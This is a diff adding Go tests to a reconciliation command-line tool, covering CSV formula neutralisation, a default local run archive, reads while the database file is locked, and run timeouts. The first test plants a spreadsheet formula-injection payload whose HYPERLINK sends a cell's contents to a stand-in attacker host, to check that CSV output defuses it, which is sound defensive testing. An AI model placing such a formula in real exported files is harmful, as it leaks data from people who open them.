@@ -527,3 +527,145 @@ func TestRunNightly(t *testing.T) {
 		t.Errorf("--nightly with --from: exit %d, want %d", code, exitUsage)
 	}
 }
+
+// TestCSVOutputNeutralisesFormulas: every CSV a listing prints (breaks, runs,
+// diff and rules list share one writer) neutralises spreadsheet formulas as
+// breaks.csv does, and keeps plain decimals summable.
+func TestCSVOutputNeutralisesFormulas(t *testing.T) {
+	hermetic(t)
+	src, err := os.ReadFile(filepath.Join("..", "..", "rules", "fx_rate_outlier.sql"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	dir := t.TempDir()
+	evil := `=HYPERLINK("http://evil.example/?"&A1,"x")`
+	body := regexp.MustCompile(`(?m)^-- description: .*$`).ReplaceAllString(string(src), "-- description: "+evil)
+	writeFile(t, filepath.Join(dir, "fx_rate_outlier.sql"), 0o644, body)
+	code, stdout, stderr := run(t, "rules", "list", "--rules-dir", dir, "--format", "csv")
+	if code != exitOK {
+		t.Fatalf("rules list: exit %d\n%s", code, stderr)
+	}
+	recs, err := csv.NewReader(strings.NewReader(stdout)).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	desc := slices.Index(recs[0], "description")
+	found := false
+	for _, r := range recs[1:] {
+		if r[0] == "fx_rate_outlier" {
+			found = true
+			if r[desc] != "'"+evil {
+				t.Errorf("description cell %q, want it neutralised %q", r[desc], "'"+evil)
+			}
+		}
+	}
+	if !found {
+		t.Fatalf("no fx_rate_outlier row:\n%s", stdout)
+	}
+
+	var buf bytes.Buffer
+	cells := []string{"=1+1", "-12.50", "@SUM(A1)", "+33", "plain"}
+	tb := table{cols: []string{"a", "b", "c", "d", "e"}}
+	tb.rows = [][]*string{{&cells[0], &cells[1], &cells[2], &cells[3], &cells[4]}}
+	if err := tb.write(&buf, "csv"); err != nil {
+		t.Fatal(err)
+	}
+	if want := "a,b,c,d,e\r\n'=1+1,-12.50,'@SUM(A1),+33,plain\r\n"; buf.String() != want {
+		t.Errorf("csv %q, want %q", buf.String(), want)
+	}
+}
+
+// TestFirstRunArchivesBesideTheDatabase: a newcomer who exported only what
+// recon sandbox prints (no RECON_ARCHIVE_URL) gets a run archived to
+// recon-archive beside the database, is told so, and config check names the
+// default as the archive's source.
+func TestFirstRunArchivesBesideTheDatabase(t *testing.T) {
+	n := newNetwork(t, 1)
+	t.Setenv("RECON_ARCHIVE_URL", "")
+	want := filepath.Join(n.dir, "recon-archive")
+	code, stdout, _ := run(t, "config", "check")
+	if got := settingsTable(stdout)["archive_url"]; got != [2]string{want, "default (recon-archive beside RECON_DB)"} {
+		t.Errorf("config check: archive_url %q, want %q from the default\n%s", got, want, stdout)
+	}
+	if strings.Contains(stdout, "RECON_ARCHIVE_URL") {
+		t.Errorf("config check reports the archive as a problem (exit %d):\n%s", code, stdout)
+	}
+	code, stdout, stderr := run(t, "run", "--from", dayN(0), "--to", dayN(0))
+	if code != exitOK {
+		t.Fatalf("run without RECON_ARCHIVE_URL: exit %d\n%s", code, stderr)
+	}
+	if !strings.Contains(stderr, "RECON_ARCHIVE_URL is not set: runs are archived to a local folder") || !strings.Contains(stderr, want) {
+		t.Errorf("the run does not say where it archives:\n%s", stderr)
+	}
+	if !strings.Contains(stdout, "archive:  "+want) {
+		t.Errorf("run output lacks the archive %s:\n%s", want, stdout)
+	}
+	if m, _ := filepath.Glob(filepath.Join(want, "run_date=*", "run_id=*", "manifest.json")); len(m) != 1 {
+		t.Errorf("manifests under %s: %v, want one", want, m)
+	}
+}
+
+// TestAnalystNeverStopsTheNight: while another process holds the published
+// file open read-write (DuckDB then refuses even a read-only open), the
+// listings still read the file, and run --nightly reads the run ledger, runs,
+// publishes and writes its metrics.
+func TestAnalystNeverStopsTheNight(t *testing.T) {
+	n := newNetwork(t, 3)
+	if code, _, stderr := run(t, runArgs...); code != exitOK {
+		t.Fatalf("run: exit %d\n%s", code, stderr)
+	}
+	holder(t, n.env["RECON_DB"])
+	var runs []map[string]*string
+	jsonOut(t, &runs, "runs", "--format", "json")
+	if len(runs) != 1 {
+		t.Errorf("runs listed: %d, want 1", len(runs))
+	}
+	if code, _, stderr := run(t, "breaks", "--open"); code != exitOK {
+		t.Errorf("breaks with the database held: exit %d\n%s", code, stderr)
+	}
+	metricsFile := filepath.Join(n.dir, "recon.prom")
+	code, stdout, stderr := run(t, "run", "--nightly", "--metrics-file", metricsFile)
+	if code != exitOK {
+		t.Fatalf("run --nightly with the database held: exit %d\n%s\n%s", code, stdout, stderr)
+	}
+	if _, err := os.Stat(metricsFile); err != nil || strings.Contains(stderr, "metrics file not written") {
+		t.Errorf("metrics not written (%v):\n%s", err, stderr)
+	}
+	jsonOut(t, &runs, "runs", "--format", "json")
+	if len(runs) != 2 {
+		t.Errorf("runs listed after the nightly run: %d, want 2", len(runs))
+	}
+	if m, _ := filepath.Glob(n.env["RECON_DB"] + ".work-*"); len(m) != 0 {
+		t.Errorf("copies left: %v", m)
+	}
+}
+
+// TestRunTimeoutExitsIncomplete: a statement response that stalls after its
+// headers is cut by RECON_RUN_TIMEOUT; the run exits 3 (incomplete) saying
+// why, and recon runs lists it as incomplete.
+func TestRunTimeoutExitsIncomplete(t *testing.T) {
+	n := newNetwork(t, 1)
+	n.setFault(func(w http.ResponseWriter, r *http.Request) bool {
+		if !strings.Contains(r.URL.Path, "/statement/") {
+			return false
+		}
+		w.WriteHeader(http.StatusOK)
+		w.Write([]byte(`{"account_name": `))
+		w.(http.Flusher).Flush()
+		<-r.Context().Done()
+		return true
+	})
+	t.Setenv("RECON_RUN_TIMEOUT", "300ms")
+	code, stdout, stderr := run(t, "run", "--from", dayN(0), "--to", dayN(0))
+	if code != exitIncomplete || !strings.Contains(stdout, "incomplete: run timeout after 300ms") {
+		t.Fatalf("stalled run: exit %d, want %d\n%s\n%s", code, exitIncomplete, stdout, stderr)
+	}
+	var runs []map[string]*string
+	jsonOut(t, &runs, "runs", "--format", "json")
+	if len(runs) != 1 || *runs[0]["verdict"] != "incomplete" || !strings.Contains(*runs[0]["reasons"], "run timeout") {
+		t.Errorf("runs: %v", runs)
+	}
+	if code, _, _ := run(t, "run", "--from", dayN(0), "--to", dayN(0), "--run-timeout", "soon"); code != exitUsage {
+		t.Errorf("--run-timeout soon: exit %d, want %d", code, exitUsage)
+	}
+}
